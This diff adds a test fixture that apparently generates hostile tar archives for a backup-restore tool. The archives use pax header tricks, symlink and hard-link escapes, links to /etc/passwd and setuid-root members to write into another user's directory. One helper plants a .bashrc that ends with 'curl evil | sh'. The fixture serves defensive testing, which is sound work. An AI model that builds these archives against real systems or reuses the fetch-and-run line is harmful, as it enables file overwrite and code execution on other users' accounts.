@@ -104,3 +104,50 @@ export function plantMultiSet(backupDir: string, ts: string, archives: Record<st
   fs.writeFileSync(path.join(set, 'SHA256SUMS'), users.map((u) => `${u.sha256}  ${u.archive}\n`).join(''));
   return set;
 }
+
+const A = 'data/users/alice';
+const B = 'data/users/bob';
+/** A clean archive for bob from Python's tarfile: restored together with each hostile one for alice. */
+export const BOB = () => pythonTar(`tf(lambda t: (member(t, '${B}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${B}/notes.txt', 'bob')))`);
+const sparseSrc = (src: string) => {
+  fs.mkdirSync(path.join(src, B), { recursive: true });
+  fs.writeFileSync(path.join(src, B, '.bashrc'), 'x');
+  fs.truncateSync(path.join(src, B, '.bashrc'), 4 << 20);
+  fs.appendFileSync(path.join(src, B, '.bashrc'), 'curl evil | sh\n');
+};
+
+/** The hostile-writer corpus: [name, archive for alice]: each renames, retypes or re-owns a member for one reader but not the other. */
+export const CORPUS: [string, () => Buffer][] = [
+  // Python's tarfile with arbitrary pax keys.
+  ['pax GNU.sparse.name renames a member into bob', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt', pax_headers={'GNU.sparse.name': '${B}/.bashrc'}))`)],
+  ['pax sparse 1.0 keys (major/minor/name/realsize)', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt', pax_headers={'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.name': '${B}/.bashrc', 'GNU.sparse.realsize': '1'}))`)],
+  ['pax sparse 0.1 keys', () => pythonTar(`pax([('GNU.sparse.offset', '0'), ('GNU.sparse.numbytes', '1'), ('GNU.sparse.name', '${B}/s01'), ('GNU.sparse.size', '1')]) + file('${A}/s.txt') + end()`)],
+  ['global pax header (g) with a path', () => pythonTar(`tf(lambda t: member(t, '${A}/ok.txt'), pax_headers={'path': '${B}/.profile'})`)],
+  ['pax header over 1 MiB (one reader skips it)', () => pythonTar(`pax([('comment', 'c' * (1100 * 1024)), ('path', '${B}/big.txt')]) + file('${A}/b.txt') + end()`)],
+  ['duplicate pax path keys', () => pythonTar(`pax([('path', '${A}/a.txt'), ('path', '${B}/dup.txt')]) + file('${A}/a.txt') + end()`)],
+  ['two pax headers in a row', () => pythonTar(`pax([('path', '${A}/xx.txt')]) + pax([('path', '${B}/xx.txt')]) + file('${A}/h.txt') + end()`)],
+  ['GNU L long name disagreeing with pax path', () => pythonTar(`pax([('path', '${A}/p.txt')]) + longname('${B}/long.txt') + file('${A}/h.txt') + end()`)],
+  ['GNU K long link name disagreeing with pax linkpath', () => pythonTar(`file('${A}/t.txt') + longname('${B}/private.key', b'K') + pax([('linkpath', '${A}/t.txt')]) + hdr('${A}/hl', b'1', link='${A}/t.txt') + end()`)],
+  ['NUL byte inside a pax path', () => pythonTar(`pax([('path', '${A}/ok\\0/../../bob/nul.txt')]) + file('${A}/n.txt') + end()`)],
+  ['old GNU sparse member (type S)', () => pythonTar(`hdr('${A}/s.txt', b'S', 1, magic=b'ustar  \\0') + body('x') + end()`)],
+  ['GNU volume header (type V)', () => pythonTar(`hdr('${B}/vol', b'V', 0, magic=b'ustar  \\0') + file('${A}/v.txt') + end()`)],
+  ['GNU multivolume continuation (type M)', () => pythonTar(`hdr('${B}/m.txt', b'M', 1, magic=b'ustar  \\0') + body('x') + end()`)],
+  ['GNU-format header whose prefix bytes hold a path', () => pythonTar(`hdr('x.txt', b'0', 1, magic=b'ustar  \\0', prefix=b'${B}') + body('x') + end()`)],
+  ['a member after a lone zero block', () => pythonTar(`file('${A}/z.txt') + b'\\0' * 512 + file('${B}/after.txt') + end()`)],
+  ['pax linkpath on a regular file', () => pythonTar(`pax([('linkpath', '/etc/passwd')]) + file('${A}/lp.txt') + end()`)],
+  ['duplicate members (file, then symlink of the same name)', () => pythonTar(`tf(lambda t: (member(t, '${A}/x', 'x'), member(t, '${A}/x', type=tarfile.SYMTYPE, linkname='../bob/.bashrc')))`)],
+  ['hard link to /etc/passwd', () => pythonTar(`tf(lambda t: member(t, '${A}/passwd', type=tarfile.LNKTYPE, linkname='/etc/passwd'))`)],
+  ['hard link through ..', () => pythonTar(`tf(lambda t: member(t, '${A}/k', type=tarfile.LNKTYPE, linkname='${A}/../bob/notes.txt'))`)],
+  ['symlink, then a file through it', () => pythonTar(`tf(lambda t: (member(t, '${A}/l', type=tarfile.SYMTYPE, linkname='../bob'), member(t, '${A}/l/pwned.txt')))`)],
+  // Each symlink lexically inside alice/, but q really resolves to alice/z, so p's "../../.." climbs out.
+  ['symlink chain that resolves outside (each link lexically inside)', () => pythonTar(`tf(lambda t: [member(t, d, type=tarfile.DIRTYPE, mode=0o755) for d in ('${A}', '${A}/x', '${A}/x/y', '${A}/z')] + [member(t, '${A}/x/y/q', type=tarfile.SYMTYPE, linkname='../../z'), member(t, '${A}/x/y/p', type=tarfile.SYMTYPE, linkname='q/../../../w')])`)],
+  ['setuid root file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o4755, uid=0)))`)],
+  ['setgid file', () => pythonTar(`tf(lambda t: (member(t, '${A}', type=tarfile.DIRTYPE, mode=0o755), member(t, '${A}/sh', '#!/bin/sh', mode=0o2755, gid=0)))`)],
+  // GNU tar as the writer.
+  ['GNU tar --sparse --format=pax with the pax path overridden', () => gnuTar(sparseSrc, ['--format=pax', '--sparse', '--pax-option', `path:=${A}/ok.bin`, `${B}/.bashrc`])],
+  ['GNU tar --format=gnu --sparse (type S)', () => gnuTar(sparseSrc, ['--format=gnu', '--sparse', `--transform=s,^${B},${A},`, `${B}/.bashrc`])],
+  ['GNU tar --format=gnu long names into bob (--transform)', () => gnuTar((s) => writeFiles(s, { [`x/${'n'.repeat(120)}`]: 'x' }), ['--format=gnu', `--transform=s,^x,${B},`, 'x'])],
+  ['GNU tar --format=pax into bob (--transform)', () => gnuTar((s) => writeFiles(s, { 'x/f.txt': 'x' }), ['--format=pax', `--transform=s,^x,${B},`, 'x'])],
+  ['GNU tar hard link to bob (--transform)', () => gnuTar((s) => { writeFiles(s, { 'a': 'x' }); fs.linkSync(path.join(s, 'a'), path.join(s, 'b')); }, ['--format=pax', `--transform=s,^a$,${B}/notes.txt,`, `--transform=s,^b$,${A}/b,`, 'a', 'b'])],
+  ['GNU tar volume label (type V)', () => gnuTar((s) => writeFiles(s, { [`${A}/v.txt`]: 'x' }), ['--format=gnu', '-V', `${B}/label`, `${A}/v.txt`])],
+];
